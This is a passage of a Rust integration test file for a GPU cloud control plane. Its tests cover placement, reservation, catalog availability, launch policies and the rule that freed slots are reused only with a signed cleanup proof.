//! Placement, reservation and the allocation lifecycle against a real database: the demo
//! catalog, nodes approved from the agent's own fixture discoveries, the outbox dispatcher,
//! the agent API functions answering as the simulated agent would, and cleanup proofs signed
//! the way the node agent signs them.

use control_plane::prelude::*;

use crate::support::in_project;

use std::time::Duration;

use agent_protocol::{PhaseReport, PhaseStatus, TaskOutcome, TaskOutput, TaskSpec};
use control_plane::agent_api::NodeAgent;
use control_plane::allocations::{LaunchRequest, Launched};
use control_plane::auth::{Platform, PlatformOperators};
use control_plane::demo::{ACME, ACME_RESEARCH, GLOBEX_DEFAULT};
use control_plane::error::Denied;
use control_plane::policy::{Level, PolicyKey, PolicyValue, Scope};
use control_plane::tenancy::{Project, ProjectOperators};
use control_plane::{AllocationId, ControlPlane, Error, Naming, NodeId, UserId};
use uuid::uuid;

use crate::support::{answer, approved, node, operator, provisioned, refusal};

pub(crate) const ALICE: UserId = UserId(uuid!("0a0e0000-0000-4000-8002-000000000001"));
pub(crate) const BOB: UserId = UserId(uuid!("0a0e0000-0000-4000-8002-000000000002"));
const CAROL: UserId = UserId(uuid!("0a0e0000-0000-4000-8002-000000000004"));
const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl bob@laptop";

/// A copy of the demo database (kept alive by the returned handle), a control plane on it,
/// and a platform operator.
pub(crate) async fn setup() -> (test_db::TestDb, ControlPlane, Platform<PlatformOperators>) {
    let db = crate::support::demo_db().await;
    let cp = db.control_plane();
    let ops = operator(&cp, "ops@platform.example").await;
    (db, cp, ops)
}

pub(crate) async fn member(
    cp: &ControlPlane,
    user: UserId,
    project: control_plane::ProjectId,
) -> Project<ProjectOperators> {
    let p = cp.principal(user).await.unwrap().unwrap();
    in_project::<ProjectOperators>(cp, &p, project).await
}

fn request(sku: &str, name: &str) -> LaunchRequest {
    LaunchRequest {
        sku: sku.into(),
        region: String::new(),
        listing: "ubuntu-24.04-cuda".into(),
        version: String::new(),
        ssh_public_key: KEY.into(),
        name: name.into(),
        idempotency_key: uuid::Uuid::new_v4().to_string(),
        lifetime_hours: None,
        published_ports: Vec::new(),
        tags: Default::default(),
        user_data: None,
        volumes: Vec::new(),
    }
}

pub(crate) async fn hgx(
    cp: &ControlPlane,
    ops: &Platform<PlatformOperators>,
    host: &str,
) -> (NodeId, NodeAgent, String) {
    approved(
        cp,
        ops,
        node(
            host,
            "eu-west-1",
            "hgx-h100-8x",
            &["gpu_slice", "baremetal"],
        ),
        "hgx-h100-8x",
        "nvme-format-crypto",
    )
    .await
}

/// Alice (Acme's admin) sets one policy on the research project.
pub(crate) async fn research_policy(cp: &ControlPlane, value: PolicyValue) {
    let alice = cp.principal(ALICE).await.unwrap().unwrap();
    let scope = cp
        .policy_scope(
            &alice,
            control_plane::policy::Target::Project(ACME_RESEARCH),
        )
        .await
        .unwrap();
    cp.set_policy(&scope, value.key(), Some(value), None)
        .await
        .unwrap();
}

pub(crate) async fn launch(
    cp: &ControlPlane,
    who: &Project<ProjectOperators>,
    sku: &str,
    name: &str,
) -> Result<AllocationId, Error> {
    cp.launch(who, &request(sku, name), None)
        .await
        .map(|l| l.id)
}

async fn state(cp: &ControlPlane, id: AllocationId) -> (String, String, String) {
    sqlx::query_as("SELECT state, desired_state, observed_state FROM allocations WHERE id = $1")
        .bind(id.0)
        .fetch_one(cp.pool())
        .await
        .unwrap()
}

async fn slot_indexes(cp: &ControlPlane, id: AllocationId) -> Vec<i32> {
    sqlx::query_scalar(
        "SELECT s.slot_index FROM resource_claims c JOIN node_resource_slots s ON s.id = c.slot_id
         WHERE c.allocation_id = $1 ORDER BY 1",
    )
    .bind(id.0)
    .fetch_all(cp.pool())
    .await
    .unwrap()
}

async fn cleanup_states(cp: &ControlPlane, node: NodeId) -> Vec<String> {
    sqlx::query_scalar(
        "SELECT cleanup_state FROM node_resource_slots WHERE node_id = $1 ORDER BY slot_index",
    )
    .bind(node.0)
    .fetch_all(cp.pool())
    .await
    .unwrap()
}

async fn double_bookings(cp: &ControlPlane) -> i64 {
    sqlx::query_scalar(
        "SELECT (SELECT count(*) FROM (SELECT slot_id FROM resource_claims WHERE released_at IS NULL AND slot_id IS NOT NULL
                                       GROUP BY slot_id HAVING count(*) > 1) d)
              + (SELECT count(*) FROM resource_claims b JOIN resource_claims o ON o.node_id = b.node_id AND o.id <> b.id
                 WHERE b.kind = 'baremetal' AND b.released_at IS NULL AND o.released_at IS NULL)",
    )
    .fetch_one(cp.pool())
    .await
    .unwrap()
}

/// What the catalog shows for `sku`, all regions together.
async fn catalog_shows(cp: &ControlPlane, sku: &str) -> i64 {
    cp.catalog()
        .await
        .unwrap()
        .into_iter()
        .find(|e| e.sku.name == sku)
        .unwrap()
        .availability
        .iter()
        .map(|a| a.launchable)
        .sum()
}

/// What the catalog shows for `sku`, all regions together; and, every time, that the count it
/// read (kept by the database as capacity changes) is what a recount of the nodes finds.
async fn availability(cp: &ControlPlane, sku: &str) -> i64 {
    let shown = catalog_shows(cp, sku).await;
    assert_eq!(
        cp.rebase_availability().await.unwrap(),
        Some(0),
        "the kept availability count differs from a recount of the nodes"
    );
    shown
}

/// The agent claims the queued network update and applies it; what it was asked.
async fn network_update(cp: &ControlPlane, agent: &NodeAgent) -> agent_protocol::NetworkUpdatePlan {
    let spec = answer(cp, agent, &["validate_plan", "publish_ports"], |_| {
        TaskOutcome::Succeeded {
            output: TaskOutput::NetworkUpdated {},
        }
    })
    .await;
    match spec {
        TaskSpec::NetworkUpdate(update) => update,
        other => panic!("{other:?}"),
    }
}

/// The proof the node agent would send for a release spec.
pub(crate) fn proof(node: NodeId, credential: &str, spec: &TaskSpec) -> TaskOutcome {
    let (TaskSpec::VmRelease(plan) | TaskSpec::BaremetalRelease(plan)) = spec else {
        panic!("not a release: {spec:?}")
    };
    TaskOutcome::Succeeded {
        output: TaskOutput::Cleaned(crate::support::signed_proof(node, credential, plan)),
    }
}

pub(crate) const PROVISION: &[&str] = &["validate_plan", "write_image", "start_vm"];
pub(crate) const RELEASE: &[&str] = &["stop_vm", "wipe_nvme", "verify_wipe", "reset_gpu"];

/// The catalog reads every SKU's availability in one statement: each SKU's count per region
/// is what asking for that SKU alone gives, across shapes, sizes and two regions, with the
/// fleet partly taken.
#[tokio::test]
async fn the_catalog_reads_each_skus_availability_at_once_as_asked_alone() {
    let (_db, cp, ops) = setup().await;
    hgx(&cp, &ops, "gpu-a").await;
    approved(
        &cp,
        &ops,
        node("gpu-b", "us-east-1", "hgx-h100-8x", &["gpu_slice"]),
        "hgx-h100-8x",
        "nvme-format-crypto",
    )
    .await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let id = launch(&cp, &bob, "h100.2x", "train-1").await.unwrap();

    let catalog = cp.catalog().await.unwrap();
    assert!(catalog.len() >= 4, "the demo SKUs: {catalog:?}");
    let mut counted = 0;
    for entry in &catalog {
        let alone = cp.availability_of(&entry.sku).await.unwrap();
        for a in &entry.availability {
            let expected = alone
                .iter()
                .find(|(r, _)| *r == a.region)
                .map_or(0, |(_, n)| *n);
            assert_eq!(a.launchable, expected, "{} in {}", entry.sku.name, a.region);
            counted += a.launchable;
        }
    }
    let shown = |sku: &str, region: &str| {
        catalog
            .iter()
            .find(|e| e.sku.name == sku)
            .and_then(|e| e.availability.iter().find(|a| a.region == region))
            .map_or(-1, |a| a.launchable)
    };
    // train-1 took a pair from one of the two nodes; gpu-b (us-east-1) sells slices only.
    let taken: String = sqlx::query_scalar("SELECT region FROM allocations WHERE id = $1")
        .bind(id.0)
        .fetch_one(cp.pool())
        .await
        .unwrap();
    let whole = |region: &str| i64::from(region != taken);
    for region in ["eu-west-1", "us-east-1"] {
        assert_eq!(shown("h100.2x", region), 3 + whole(region), "{region}");
        assert_eq!(shown("h100.8x", region), whole(region), "{region}");
    }
    assert_eq!(shown("h100.8x.metal", "eu-west-1"), whole("eu-west-1"));
    assert_eq!(shown("h100.8x.metal", "us-east-1"), 0);
    assert!(counted > 0);
}

#[tokio::test]
async fn a_two_gpu_slice_runs_is_released_and_its_slots_return_only_with_the_proof() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, credential) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    assert_eq!(availability(&cp, "h100.2x").await, 4);
    assert_eq!(availability(&cp, "h100.8x").await, 1);

    let id = launch(&cp, &bob, "h100.2x", "train-1").await.unwrap();
    // Placed, and its provision already queued for the agent.
    assert_eq!(state(&cp, id).await.0, "provisioning");
    assert_eq!(
        slot_indexes(&cp, id).await,
        vec![0, 2],
        "an NVLink pair (the fabric pairs 0+2)"
    );
    // The catalog agrees with what placement did: 3 pairs left, no 8-GPU slice.
    assert_eq!(availability(&cp, "h100.2x").await, 3);
    assert_eq!(availability(&cp, "h100.8x").await, 0);
    assert_eq!(availability(&cp, "h100.8x.metal").await, 0);

    // Launch wrote the provision task in its own transaction: no outbox row at all, and
    // nothing for the dispatcher, however often it runs.
    let outbox: i64 = sqlx::query_scalar("SELECT count(*) FROM outbox WHERE allocation_id = $1")
        .bind(id.0)
        .fetch_one(cp.pool())
        .await
        .unwrap();
    assert_eq!(outbox, 0);
    assert_eq!(cp.dispatch_outbox(10).await.unwrap(), 0);
    assert_eq!(cp.dispatch_outbox(10).await.unwrap(), 0);
    assert_eq!(state(&cp, id).await.0, "provisioning");
    let spec = answer(&cp, &agent, PROVISION, provisioned).await;
    let TaskSpec::VmProvision(plan) = &spec else {
        panic!("{spec:?}")
    };
    assert_eq!(plan.slots.len(), 2);
    assert_eq!(plan.slots[0].ip_address, "10.100.0.10");
    assert!(plan.slots[0].mac_address.starts_with("52:54:"));
    assert_eq!(plan.slots[0].wipe_policy, "nvme-format-crypto");
    assert_eq!(
        state(&cp, id).await,
        ("running".into(), "running".into(), "running".into())
    );

    let principal = cp.principal(BOB).await.unwrap().unwrap();
    // Reached through the node's public address (its hostname until an operator sets one),
    // on slot 0's SSH port; isolated from its project's other guests (east-west is off).
    assert_eq!(plan.network.public_host.as_deref(), Some("gpu-a"));
    assert_eq!(plan.network.ssh_port, Some(22000));
    assert_eq!(plan.network.east_west_group, None);
    assert!(plan.network.published.is_empty());
    // Its NVLink partition (the pair placement chose) and Acme's InfiniBand partition key,
    // assigned now and kept.
    let partition: i32 = sqlx::query_scalar(
        "SELECT partition_id FROM node_fabric_partitions p JOIN node_resource_slots s
           ON s.id = ANY (p.slot_ids) AND s.slot_index IN (0, 2)
         WHERE p.node_id = $1 AND cardinality(p.slot_ids) = 2
         GROUP BY partition_id HAVING count(*) = 2",
    )
    .bind(node.0)
    .fetch_one(cp.pool())
    .await
    .unwrap();
    assert_eq!(plan.fabric.nvlink_partition, Some(partition as u32));
    let pkey: i32 =
        sqlx::query_scalar("SELECT pkey FROM tenant_ib_partitions WHERE tenant_id = $1")
            .bind(ACME.0)
            .fetch_one(cp.pool())
            .await
            .unwrap();
    assert_eq!(plan.fabric.ib_pkey, Some(pkey as u16));
    let detail = cp.allocation(&principal, id).await.unwrap();
    assert_eq!(detail.ssh.as_deref(), Some("ssh -p 22000 ubuntu@gpu-a"));
    assert!(
        detail.placement_why.contains("NVLink partition"),
        "{}",
        detail.placement_why
    );
    let path: Vec<&str> = detail.transitions.iter().map(|t| t.to.as_str()).collect();
    assert_eq!(path, ["requested", "placed", "provisioning", "running"]);
    assert_eq!(detail.phases.len(), PROVISION.len());

    // Release: twice is the same as once.
    cp.release_allocation(&bob, id, None).await.unwrap();
    cp.release_allocation(&bob, id, None).await.unwrap();
    assert_eq!(cp.dispatch_outbox(10).await.unwrap(), 0);
    let control_plane::agent_api::ClaimedTask { id: task, spec, .. } = cp
        .claim_task(&agent, Duration::ZERO)
        .await
        .unwrap()
        .unwrap();
    cp.report_phase(
        &agent,
        task,
        &PhaseReport {
            phase: "wipe_nvme".into(),
            status: PhaseStatus::Started,
            elapsed_ms: 0,
            detail: None,
        },
    )
    .await
    .unwrap();
    assert_eq!(state(&cp, id).await.0, "cleaning");
    // While cleaning, the pair is not free: no 8-GPU slice, and the DB refuses a clean
    // mark without a proof.
    assert_eq!(availability(&cp, "h100.8x").await, 0);
    let refused =
        sqlx::query("UPDATE node_resource_slots SET cleanup_state = 'clean' WHERE node_id = $1")
            .bind(node.0)
            .execute(cp.pool())
            .await
            .unwrap_err();
    assert!(
        refused
            .to_string()
            .contains("reusable only with a cleanup proof"),
        "{refused}"
    );

    cp.finish_task(&agent, task, &proof(node, &credential, &spec))
        .await
        .unwrap();
    assert_eq!(
        state(&cp, id).await,
        ("released".into(), "released".into(), "absent".into())
    );
    assert_eq!(cleanup_states(&cp, node).await, vec!["clean"; 8]);
    let detail = cp.allocation(&principal, id).await.unwrap();
    assert_eq!(detail.certificates.len(), 2);
    assert_eq!(detail.projected, "released");
    assert!(detail.ssh.is_none());
    assert_eq!(availability(&cp, "h100.8x").await, 1);

    // The project's audit trail holds its instances' launch and release, once each.
    let viewer = cp
        .project_access::<control_plane::tenancy::ProjectViewers>(&principal, ACME_RESEARCH)
        .await
        .unwrap();
    let trail: Vec<String> = cp
        .project_audit(&viewer)
        .await
        .unwrap()
        .into_iter()
        .filter(|a| a.resource.ends_with(&format!(":allocation:{id}")))
        .map(|a| a.action)
        .collect();
    assert_eq!(trail, ["allocation.release", "allocation.launch"]);

    // Another tenant gets the same slots.
    let carol = member(&cp, CAROL, GLOBEX_DEFAULT).await;
    let next = launch(&cp, &carol, "h100.2x", "eval").await.unwrap();
    assert_eq!(slot_indexes(&cp, next).await, vec![0, 2]);
    assert_eq!(double_bookings(&cp).await, 0);
}

#[tokio::test]
async fn one_idempotency_key_makes_one_allocation() {
    let (_db, cp, ops) = setup().await;
    hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let req = request("h100.1x", "notebook");
    let first = cp.launch(&bob, &req, None).await.unwrap();
    let again = cp.launch(&bob, &req, None).await.unwrap();
    assert_eq!(
        again,
        Launched {
            id: first.id,
            created: false
        }
    );
    // Concurrent repeats of a new key: still one.
    let req2 = request("h100.1x", "notebook-2");
    let (a, b, c) = tokio::join!(
        cp.launch(&bob, &req2, None),
        cp.launch(&bob, &req2, None),
        cp.launch(&bob, &req2, None)
    );
    let ids = [a.unwrap().id, b.unwrap().id, c.unwrap().id];
    assert!(ids.iter().all(|i| *i == ids[0]));
    let count: i64 = sqlx::query_scalar("SELECT count(*) FROM allocations")
        .fetch_one(cp.pool())
        .await
        .unwrap();
    assert_eq!(count, 2);
    let claims: i64 =
        sqlx::query_scalar("SELECT count(*) FROM resource_claims WHERE released_at IS NULL")
            .fetch_one(cp.pool())
            .await
            .unwrap();
    assert_eq!(claims, 2);
    // The same key for a different request is refused, not silently answered.
    let other = LaunchRequest {
        name: "other".into(),
        ..req.clone()
    };
    let err = cp.launch(&bob, &other, None).await.unwrap_err();
    assert!(
        err.to_string().contains("different launch request"),
        "{err}"
    );
}

#[tokio::test]
async fn bad_input_is_named_and_nothing_is_reserved() {
    let (_db, cp, ops) = setup().await;
    hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let field = |e: Error| match e {
        Error::Invalid { field, .. } => field,
        other => panic!("{other}"),
    };
    let mut r = request("h100.1x", "Bad Name");
    assert_eq!(field(cp.launch(&bob, &r, None).await.unwrap_err()), "name");
    r = request("h100.1x", "ok");
    r.ssh_public_key = "ssh-rsa AAAA".into();
    assert_eq!(
        field(cp.launch(&bob, &r, None).await.unwrap_err()),
        "ssh_public_key"
    );
    r = request("a100.1x", "ok");
    assert_eq!(field(cp.launch(&bob, &r, None).await.unwrap_err()), "sku");
    r = request("h100.1x", "ok");
    r.region = "ap-south-1".into();
    assert_eq!(
        field(cp.launch(&bob, &r, None).await.unwrap_err()),
        "region"
    );
    r = request("h100.1x", "ok");
    r.listing = "windows".into();
    assert_eq!(
        field(cp.launch(&bob, &r, None).await.unwrap_err()),
        "listing"
    );
    launch(&cp, &bob, "h100.1x", "ok").await.unwrap();
    assert_eq!(
        field(launch(&cp, &bob, "h100.1x", "ok").await.unwrap_err()),
        "name"
    );
    let claims: i64 = sqlx::query_scalar("SELECT count(*) FROM resource_claims")
        .fetch_one(cp.pool())
        .await
        .unwrap();
    assert_eq!(claims, 1);

    // A platform version from before images had to be in the image directory (migration 0013
    // kept the platform's own) is refused at launch, not later by the host's agent.
    let mut conn = cp.pool().acquire().await.unwrap();
    sqlx::query("SET session_replication_role = replica")
        .execute(&mut *conn)
        .await
        .unwrap();
    sqlx::query(
        "UPDATE listing_versions SET image_source = '/srv/images/ubuntu.qcow2'
         WHERE listing_id = (SELECT id FROM listings WHERE slug = 'ubuntu-24.04-cuda')",
    )
    .execute(&mut *conn)
    .await
    .unwrap();
    sqlx::query("RESET session_replication_role")
        .execute(&mut *conn)
        .await
        .unwrap();
    drop(conn);
    match cp.launch(&bob, &request("h100.1x", "old"), None).await {
        Err(Error::Invalid { field, reason }) => {
            assert_eq!(field, "version");
            assert!(
                reason.contains(
                    "\"/srv/images/ubuntu.qcow2\" is not a file in the operator's image directory"
                ),
                "{reason}"
            );
        }
        other => panic!("expected the version refused, got {other:?}"),
    }
    let claims: i64 = sqlx::query_scalar("SELECT count(*) FROM resource_claims")
        .fetch_one(cp.pool())
        .await
        .unwrap();
    assert_eq!(claims, 1, "nothing more is claimed");
}

#[tokio::test]
async fn the_policy_chain_is_checked_with_the_reservation() {
    let (_db, cp, ops) = setup().await;
    hgx(&cp, &ops, "gpu-a").await;
    let alice = cp.principal(ALICE).await.unwrap().unwrap();
    let tenant_scope = cp
        .policy_scope(&alice, control_plane::policy::Target::Tenant(ACME))
        .await
        .unwrap();
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    cp.set_policy(
        &tenant_scope,
        PolicyKey::AllowedSkus,
        Some(PolicyValue::AllowedSkus(vec![
            "h100.1x".into(),
            "h100.2x".into(),
        ])),
        None,
    )
    .await
    .unwrap();
    let err = launch(&cp, &bob, "h100.4x", "big").await.unwrap_err();
    match &err {
        Error::PolicyDenied(d) => {
            assert_eq!(
                (d.key, d.level),
                (PolicyKey::AllowedSkus, Some(Level::Tenant))
            );
            assert_eq!(
                d.why,
                Denied::NotAllowed {
                    allowed: vec!["h100.1x".into(), "h100.2x".into()],
                    asked: "h100.4x".into()
                }
            );
        }
        other => panic!("{other:?}"),
    }
    assert!(
        err.to_string().contains(
            "allowed_skus (set at organization level) allows h100.1x, h100.2x, not h100.4x"
        ),
        "{err}"
    );

    cp.set_policy(
        &tenant_scope,
        PolicyKey::MaxGpusInUse,
        Some(PolicyValue::MaxGpusInUse(3)),
        None,
    )
    .await
    .unwrap();
    launch(&cp, &bob, "h100.2x", "a").await.unwrap();
    let err = launch(&cp, &bob, "h100.2x", "b").await.unwrap_err();
    assert!(
        err.to_string()
            .contains("allows 3 GPUs in use in this organization; 2 are in use"),
        "{err}"
    );
    launch(&cp, &bob, "h100.1x", "c").await.unwrap();

    let project_scope: Scope = cp
        .policy_scope(
            &alice,
            control_plane::policy::Target::Project(ACME_RESEARCH),
        )
        .await
        .unwrap();
    cp.set_policy(&project_scope, PolicyKey::MaxGpusInUse, None, None)
        .await
        .unwrap();
    cp.set_policy(&tenant_scope, PolicyKey::MaxGpusInUse, None, None)
        .await
        .unwrap();
    cp.set_policy(
        &project_scope,
        PolicyKey::MonthlyBudget,
        Some(PolicyValue::MonthlyBudget(control_plane::policy::Money {
            amount_minor: 500,
            currency: "USD".into(),
        })),
        None,
    )
    .await
    .unwrap();
    let err = launch(&cp, &bob, "h100.2x", "d").await.unwrap_err();
    assert!(
        err.to_string()
            .contains("monthly_budget (set at project level) is 5.00 USD"),
        "{err}"
    );
    cp.set_policy(
        &tenant_scope,
        PolicyKey::AllowedRegions,
        Some(PolicyValue::AllowedRegions(vec!["us-east-1".into()])),
        None,
    )
    .await
    .unwrap();
    cp.set_policy(&project_scope, PolicyKey::MonthlyBudget, None, None)
        .await
        .unwrap();
    let err = launch(&cp, &bob, "h100.1x", "e").await.unwrap_err();
    // us-east-1 is allowed and sold, but has no node: placement says so.
    assert!(
        err.to_string()
            .starts_with("sku_unavailable: no node in us-east-1 has NVIDIA H100 80GB HBM3 GPUs"),
        "{err}"
    );
    assert!(
        err.to_string()
            .contains("What would fit instead: this shape in eu-west-1"),
        "{err}"
    );
}

/// Runs an allocation's provision and release through the agent up to its wipe: the slots
/// wait in `cleaning` for the proof. Returns the release task and its spec.
async fn run_until_wiped(
    cp: &ControlPlane,
    agent: &NodeAgent,
    who: &Project<ProjectOperators>,
    id: AllocationId,
) -> (control_plane::AgentTaskId, TaskSpec) {
    let provision = cp.claim_task(agent, Duration::ZERO).await.unwrap().unwrap();
    cp.finish_task(agent, provision.id, &provisioned(&provision.spec))
        .await
        .unwrap();
    cp.release_allocation(who, id, None).await.unwrap();
    let release = cp.claim_task(agent, Duration::ZERO).await.unwrap().unwrap();
    let wipe = PhaseReport {
        phase: "wipe_nvme".into(),
        status: PhaseStatus::Started,
        elapsed_ms: 0,
        detail: None,
    };
    cp.report_phase(agent, release.id, &wipe).await.unwrap();
    assert_eq!(state(cp, id).await.0, "cleaning");
    (release.id, release.spec)
}

/// A slot is clean again only with the proof of its last claim, whether that was a slice of it
/// or its whole node as bare metal (the database's trigger finds the later of the two; since
/// migration 0032 from two index probes instead of the whole history of claims). Here the
/// slot's own last claim has its proof, but the node's later bare-metal claim has none yet.
#[tokio::test]
async fn a_slot_is_clean_only_with_the_proof_of_its_last_claim_slice_or_bare_metal() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, credential) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let mark_clean = || {
        sqlx::query("UPDATE node_resource_slots SET cleanup_state = 'clean' WHERE node_id = $1")
            .bind(node.0)
            .execute(cp.pool())
    };

    let slice = launch(&cp, &bob, "h100.1x", "slice").await.unwrap();
    let sliced: Vec<i32> = slot_indexes(&cp, slice).await;
    let (task, spec) = run_until_wiped(&cp, &agent, &bob, slice).await;
    let refused = mark_clean().await.unwrap_err();
    assert!(
        refused
            .to_string()
            .contains(&format!("cleanup proof for allocation {slice}")),
        "the slice's slot without its proof: {refused}"
    );
    cp.finish_task(&agent, task, &proof(node, &credential, &spec))
        .await
        .unwrap();
    assert_eq!(cleanup_states(&cp, node).await, vec!["clean"; 8]);

    let metal = launch(&cp, &bob, "h100.8x.metal", "metal").await.unwrap();
    let (task, spec) = run_until_wiped(&cp, &agent, &bob, metal).await;
    let refused = sqlx::query(
        "UPDATE node_resource_slots SET cleanup_state = 'clean'
          WHERE node_id = $1 AND slot_index = $2",
    )
    .bind(node.0)
    .bind(sliced[0])
    .execute(cp.pool())
    .await
    .unwrap_err();
    assert!(
        refused
            .to_string()
            .contains(&format!("cleanup proof for allocation {metal}")),
        "the slot the slice had, after the node's bare-metal claim: {refused}"
    );
    cp.finish_task(&agent, task, &proof(node, &credential, &spec))
        .await
        .unwrap();
    assert_eq!(cleanup_states(&cp, node).await, vec!["clean"; 8]);
    assert_eq!(
        state(&cp, metal).await,
        ("released".into(), "released".into(), "absent".into())
    );
}

#[tokio::test]
async fn baremetal_takes_a_whole_node_and_slices_and_metal_exclude_each_other() {
    let (_db, cp, ops) = setup().await;
    let (a, ..) = hgx(&cp, &ops, "gpu-a").await;
    let (b, ..) = hgx(&cp, &ops, "gpu-b").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    let slice = launch(&cp, &bob, "h100.1x", "one").await.unwrap();
    let on: NodeId = sqlx::query_scalar("SELECT node_id FROM allocations WHERE id = $1")
        .bind(slice.0)
        .fetch_one(cp.pool())
        .await
        .map(NodeId)
        .unwrap();
    let metal = launch(&cp, &bob, "h100.8x.metal", "metal").await.unwrap();
    let metal_on: NodeId = sqlx::query_scalar("SELECT node_id FROM allocations WHERE id = $1")
        .bind(metal.0)
        .fetch_one(cp.pool())
        .await
        .map(NodeId)
        .unwrap();
    assert_ne!(on, metal_on, "bare metal never shares a node");
    assert!([a, b].contains(&metal_on));
    // Every slot of the metal node is blocked for slices; the other node has 7 free.
    assert_eq!(availability(&cp, "h100.1x").await, 7);
    let err = launch(&cp, &bob, "h100.8x.metal", "metal-2")
        .await
        .unwrap_err();
    assert!(
        err.to_string()
            .contains("of 2 node(s) with this GPU: 2 partly in use or waiting for cleanup"),
        "{err}"
    );
    let err = launch(&cp, &bob, "h100.8x", "eight").await.unwrap_err();
    // One node has 7 free GPUs (the slice), the other none (bare metal).
    assert!(
        err.to_string()
            .contains("of 2 node(s) with this GPU: 2 with fewer than 8 free GPUs"),
        "{err}"
    );
    assert!(
        err.to_string()
            .contains("What would fit instead: 1 × 4-GPU slice(s) here"),
        "{err}"
    );
    assert_eq!(double_bookings(&cp).await, 0);
}

#[tokio::test]
async fn the_catalog_count_follows_heartbeats_and_health_and_a_recount_repairs_it() {
    let (_db, cp, ops) = setup().await;
    let (node, agent, _) = hgx(&cp, &ops, "gpu-a").await;
    let bob = member(&cp, BOB, ACME_RESEARCH).await;
    assert_eq!(availability(&cp, "h100.8x").await, 1);
    assert_eq!(availability(&cp, "h100.8x.metal").await, 1);
    let heartbeat = |health| cp.heartbeat(&agent, "0.1.0", health, None, &[]);

    // Silent: placement refuses it at once; the count lets go at the sweep.
    sqlx::query("UPDATE nodes SET last_heartbeat_at = now() - interval '2 minutes' WHERE id = $1")
        .bind(node.0)
        .execute(cp.pool())
        .await
        .unwrap();
    let err = launch(&cp, &bob, "h100.8x", "silent").await.unwrap_err();
    assert!(
        err.to_string().contains("without a recent heartbeat"),
        "{err}"
    );
    assert_eq!(cp.keep_availability().await.unwrap().lapsed, 1);
    assert_eq!(cp.keep_availability().await.unwrap().lapsed, 0, "once");
    assert_eq!(availability(&cp, "h100.8x").await, 0);
    assert_eq!(availability(&cp, "h100.8x.metal").await, 0);
    // Back with the next heartbeat, without waiting for a sweep.
    heartbeat(agent_protocol::HealthStatus::Healthy)
        .await
        .unwrap();
    assert_eq!(availability(&cp, "h100.8x").await, 1);
    assert_eq!(availability(&cp, "h100.1x").await, 8);

    // Unhealthy, then healthy again.
    heartbeat(agent_protocol::HealthStatus::Degraded)
        .await
        .unwrap();
    assert_eq!(availability(&cp, "h100.1x").await, 0);
    heartbeat(agent_protocol::HealthStatus::Healthy)
        .await
        .unwrap();
    assert_eq!(availability(&cp, "h100.1x").await, 8);

    // Launches and releases log their changes; compaction folds them into one row per key
    // without changing what the catalog shows.
    let one = launch(&cp, &bob, "h100.1x", "one").await.unwrap();
    let two = launch(&cp, &bob, "h100.1x", "two").await.unwrap();
    // The agent has both (a release no host saw would end at once, with no wipe to wait for).
    for _ in [one, two] {
        cp.claim_task(&agent, Duration::ZERO)
            .await
            .unwrap()
            .expect("a provision");
    }
    cp.release_allocation(&bob, one, None).await.unwrap();
    let rows = || async {
        sqlx::query_scalar::<_, i64>("SELECT count(*) FROM availability_changes")
            .fetch_one(cp.pool())
            .await
            .unwrap()
    };
    let before = rows().await;
    let upkeep = cp.keep_availability().await.unwrap();
    assert!(upkeep.folded > 0, "{upkeep:?}");
    assert_eq!(rows().await, before - upkeep.folded);
    assert_eq!(
        availability(&cp, "h100.1x").await,
        6,
        "a released slot waits for its cleanup proof"
    );
    cp.release_allocation(&bob, two, None).await.unwrap();

    // A log that went wrong (here by hand; in life a path that wrote no change) is put right
    // by the recount, which says by how much, and counts it for operators.
    sqlx::query(
        "INSERT INTO availability_changes
         SELECT shape, gpu_model, size, region, family, min_vcpus, min_memory_mib,
                min_nvme_bytes, 5
         FROM availability_changes WHERE shape = 'gpu_slice' AND size = 1 LIMIT 1",
    )
    .execute(cp.pool())
    .await
    .unwrap();
    assert_eq!(catalog_shows(&cp, "h100.1x").await, 11);
    assert_eq!(cp.rebase_availability().await.unwrap(), Some(5));
    assert_eq!(catalog_shows(&cp, "h100.1x").await, 6);
    assert_eq!(cp.metrics().availability_corrections(), 5);
    assert_eq!(cp.rebase_availability().await.unwrap(), Some(0));

    // A busy second's worth of changes (here pairs that cancel out) leaves the table no larger
    // once compacted: the rows folded away are vacuumed at once, not left for the catalog's
    // query to read past. A vacuum frees only rows no snapshot in the database can still see,
    // and autovacuum (which may be analyzing another table at that instant) holds one for a
    // moment; and the file shrinks only because the upkeep rewrites it (a vacuum alone kept
    // the 58 pages whenever the folded rows landed on the last one). So up to ten busy
    // seconds, each of which must vacuum.
    let mut pages = i64::MAX;
    for _ in 0..10 {
        log_cancelling_changes(&cp, 2_000).await;
        let upkeep = cp.keep_availability().await.unwrap();
        assert!(upkeep.folded >= 4_000, "{upkeep:?}");
        assert!(upkeep.vacuumed, "{upkeep:?}");
        pages = sqlx::query_scalar("SELECT pg_relation_size('availability_changes') / 8192")
            .fetch_one(cp.pool())
            .await
            .unwrap();
        if pages <= 2 {
            break;
        }
    }
    assert!(pages <= 2, "{pages} pages after compaction and vacuum");

    // Quieter seconds add up: two compactions of 600 rows each, and the second vacuums.
    log_cancelling_changes(&cp, 300).await;
    let upkeep = cp.keep_availability().await.unwrap();
    assert!(upkeep.folded >= 600 && !upkeep.vacuumed, "{upkeep:?}");
    log_cancelling_changes(&cp, 300).await;
    let upkeep = cp.keep_availability().await.unwrap();
    assert!(upkeep.folded >= 600 && upkeep.vacuumed, "{upkeep:?}");

    // While another replica vacuums the log (here, a transaction holding the lock a vacuum
    // takes), the upkeep waits a moment, says it did not vacuum, and fails nothing.
    let other = lock_the_log(&cp, "SHARE UPDATE EXCLUSIVE").await;
    log_cancelling_changes(&cp, 600).await;
    let upkeep = cp.keep_availability().await.unwrap();
